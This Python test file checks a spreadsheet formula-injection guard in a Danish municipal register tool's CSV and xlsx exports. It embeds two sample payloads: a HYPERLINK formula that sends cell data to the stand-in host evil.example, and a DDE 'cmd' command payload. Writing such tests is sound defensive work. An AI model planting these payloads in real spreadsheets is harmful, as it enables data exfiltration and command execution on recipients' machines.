"""The one formula-injection guard (store/cells.py): every CSV and xlsx writer uses it,
nothing a citizen or a taxonomy label wrote reaches a spreadsheet as a formula, and the
register's CSV round trip stays lossless."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from store.cells import csv_text, unguard
from tests.store.registers import write_csv
from tests.store.test_register_import import rows

ROOT = Path(__file__).resolve().parents[2]
HYPERLINK = '=HYPERLINK("http://evil.example/x?"&B2&C2;"Se sagen")'
CALC = "+cmd|' /C calc'!A0"
# What a spreadsheet would run: a cell whose first non-blank character starts a formula.
RUNS = re.compile(r"^[ \t\r\n]*[=+\-@]")


def runs_as_formula(cell: str) -> bool:
    return RUNS.match(cell) is not None and not re.fullmatch(r"[+-]?\d+(?:[.,]\d+)?", cell)


@pytest.mark.parametrize(
    ("raw", "written"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        (CALC, "'" + CALC),
        ("-ring tilbage", "'-ring tilbage"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("  =1+1", "'  =1+1"),
        ("'=1+1", "''=1+1"),  # already quoted: one more, so the reader gets it back
        ("+4512345678", "+4512345678"),  # a phone number is not a formula
        ("-5", "-5"),
        ("Klage", "Klage"),
        ("'Klage'", "'Klage'"),
    ],
)
def test_csv_guard(raw: str, written: str) -> None:
    assert csv_text(raw) == written
    assert unguard(written) == raw


@given(st.text())
def test_guard_is_lossless_and_never_leaves_a_formula(s: str) -> None:
    assert unguard(csv_text(s)) == s
    assert not runs_as_formula(csv_text(s))


def test_every_writer_goes_through_the_guard() -> None:
    """csv writers, openpyxl workbooks and raw sheet appends appear only in store/cells.py:
    a new writer cannot skip the guard without failing here."""
    bypass = re.compile(r"csv\.(?:writer|DictWriter)\(|\bWorkbook\(|\bws\.append\(")
    offenders = [
        f"{path.relative_to(ROOT)}: {m.group(0)}"
        for pkg in ("store", "ingest", "borgerdesk", "tui")
        for path in (ROOT / pkg).rglob("*.py")
        if path != ROOT / "store" / "cells.py"
        for m in bypass.finditer(path.read_text("utf-8"))
    ]
    assert offenders == []


@pytest.fixture
def cfg(tmp_path: Path, cli) -> str:
    path = tmp_path / "c.toml"
    assert cli("--config", str(path), "init", "--preset", "odsherred").code == 0
    return str(path)


def test_export_register_csv_and_xlsx_keep_a_subject_from_running(
    cfg: str, db_url: str, cli, tmp_path: Path
) -> None:
    data = rows(1)
    data[0]["summary"] = HYPERLINK
    reg = write_csv(data, tmp_path / "r.csv")
    assert cli("--config", cfg, "--db", db_url, "import-register", str(reg)).code == 0
    out = tmp_path / "out.csv"
    assert cli("--config", cfg, "--db", db_url, "export-register", str(out)).code == 0
    exported = list(csv.DictReader(io.StringIO(out.read_text("utf-8"))))
    assert exported[0]["summary"] == "'" + HYPERLINK
    assert not any(runs_as_formula(v) for r in exported for v in r.values())
    # and the export imports back to the same subject (the reader undoes the guard)
    other = f"sqlite:///{tmp_path / 'other.db'}"
    assert cli("--config", cfg, "--db", other, "db", "upgrade").code == 0
    again = cli("--config", cfg, "--db", other, "import-register", str(out))
    assert again.code == 0, again.err
    out2 = tmp_path / "out2.csv"
    assert cli("--config", cfg, "--db", other, "export-register", str(out2)).code == 0
    assert out2.read_bytes() == out.read_bytes()

    from openpyxl import load_workbook

    xl = tmp_path / "out.xlsx"
    assert cli("--config", cfg, "--db", db_url, "export-register", str(xl)).code == 0
    ws = load_workbook(xl).active
    header = [c.value for c in ws[1]]
    cell = ws.cell(row=2, column=header.index("resumé") + 1)  # Danish headers: UI is Danish
    assert (cell.data_type, cell.value) == ("s", HYPERLINK)
    # the Danish-headed workbook imports back to the same register
    third = f"sqlite:///{tmp_path / 'third.db'}"
    assert cli("--config", cfg, "--db", third, "db", "upgrade").code == 0
    assert cli("--config", cfg, "--db", third, "import-register", str(xl)).code == 0
    out3 = tmp_path / "out3.csv"
    assert cli("--config", cfg, "--db", third, "export-register", str(out3)).code == 0
    assert out3.read_bytes() == out.read_bytes()


def test_report_csv_keeps_a_taxonomy_value_from_running(
    cfg: str, db_url: str, cli, tmp_path: Path
) -> None:
    data = rows(1)
    data[0]["category"] = CALC
    reg = write_csv(data, tmp_path / "r.csv")
    r = cli("--config", cfg, "--db", db_url, "import-register", str(reg), "--create-taxonomy")
    assert r.code == 0, r.err
    r = cli(
        "--config",
        cfg,
        "--db",
        db_url,
        "report",
        "--year",
        "2024",
        "--unit",
        "cases",
        "--rows",
        "category",
        "--format",
        "csv",
    )
    assert r.code == 0, r.err
    cells = [v for line in csv.reader(io.StringIO(r.out)) for v in line]
    assert "'" + CALC in cells
    assert not any(runs_as_formula(v) for v in cells)


def test_plain_xlsx_reads_back_as_written(tmp_path: Path) -> None:
    from openpyxl import load_workbook

    from store.cells import write_plain_xlsx

    path = tmp_path / "p.xlsx"
    rows = [["a", "b", "c", "d"], [HYPERLINK, 7, 2.5, None], ["x\x07y <&> ø", "", True, "-5"]]
    write_plain_xlsx(path, "Register", rows)
    for read_only in (False, True):  # the importer reads read-only
        ws = load_workbook(path, read_only=read_only).worksheets[0]
        got = [[c.value for c in r] for r in ws.iter_rows()]
        got = [r + [None] * (4 - len(r)) for r in got]  # a row ends at its last cell
        assert got == [
            ["a", "b", "c", "d"],
            [HYPERLINK, 7, 2.5, None],
            ["x\ufffdy <&> ø", None, "True", "-5"],
        ]
    ws = load_workbook(path).worksheets[0]
    assert ws.title == "Register" and ws["A2"].data_type == "s"
